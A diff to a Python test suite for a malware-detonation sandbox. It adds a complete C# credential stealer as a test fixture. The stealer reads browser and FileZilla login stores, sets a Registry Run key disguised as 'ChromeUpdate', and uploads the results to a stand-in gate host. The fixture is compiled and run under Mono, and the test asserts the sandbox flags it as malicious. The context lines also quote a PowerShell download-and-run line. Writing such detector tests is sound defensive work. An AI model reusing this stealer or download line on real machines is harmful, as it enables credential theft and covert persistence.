@@ -593,3 +593,68 @@ def test_jscript_starting_a_powershell_download_is_malicious(tmp_path, wine_temp
     assert r["verdict"] == "malicious", r["findings"]
     assert "lolbin_download" in ids(r)
     assert "DownloadFile('http://upd.example-cdn.test/a.exe'" in detail(r, "lolbin_download")
+
+
+DOTNET_STEALER = r"""
+using System;
+using System.IO;
+using System.Net;
+using System.Text;
+using Microsoft.Win32;
+class P {
+    static void Main() {
+        string local = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData);
+        string roaming = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
+        string[] stores = {
+            Path.Combine(local, "Google", "Chrome", "User Data", "Default", "Login Data"),
+            Path.Combine(local, "Microsoft", "Edge", "User Data", "Default", "Login Data"),
+            Path.Combine(roaming, "Mozilla", "Firefox", "Profiles", "x.default", "logins.json"),
+            Path.Combine(roaming, "FileZilla", "recentservers.xml"),
+        };
+        var loot = new StringBuilder();
+        foreach (var s in stores) { try { loot.Append(File.ReadAllText(s)); } catch (Exception) { } }
+        using (var k = Registry.CurrentUser.CreateSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run"))
+            k.SetValue("ChromeUpdate", Path.Combine(roaming, "chromeupd.exe"));
+        try {
+            using (var w = new WebClient())
+                w.UploadString("http://panel.example-stealer.test/gate.php", "log=" + loot + new string('A', 2048));
+        } catch (Exception) { }
+    }
+}
+"""
+
+
+def _dotnet_missing() -> str | None:
+    import shutil
+
+    from mailvm.guest import launcher as L
+
+    reason = wine_missing(64)
+    if reason and "wine" not in reason:
+        return reason
+    if not L.find_tool("mono"):
+        return "mono not installed (apt-get install mono-runtime)"
+    if not shutil.which("mcs"):
+        return "mcs not installed (apt-get install mono-mcs)"
+    return None
+
+
+DOTNET = _dotnet_missing()
+
+
+@pytest.mark.sandbox
+@pytest.mark.slow
+@pytest.mark.skipif(DOTNET is not None, reason=f".NET test unavailable: {DOTNET}")
+def test_dotnet_stealer_under_mono_sweeps_stores_persists_and_uploads(tmp_path):
+    import subprocess
+
+    src = tmp_path / "st.cs"
+    src.write_text(DOTNET_STEALER)
+    subprocess.run(["mcs", f"-out:{tmp_path / 'st.exe'}", str(src)], check=True, timeout=120)
+    r = run_sample(tmp_path, (tmp_path / "st.exe").read_bytes(), "Order_Details.exe", timeout_s=60,
+                   stop_on_malicious=False)
+    assert r["launcher"] == "dotnet_mono" and r["executed"], r["execution"]
+    assert r["verdict"] == "malicious", r["findings"]
+    assert {"credential_access", "http_upload", "persistence_registry_run", "combo_credentials_exfil",
+            "combo_persistence_c2"} <= ids(r)
+    assert "credential stores that are not there" in detail(r, "credential_access")  # Mono's %APPDATA% is ~/.config
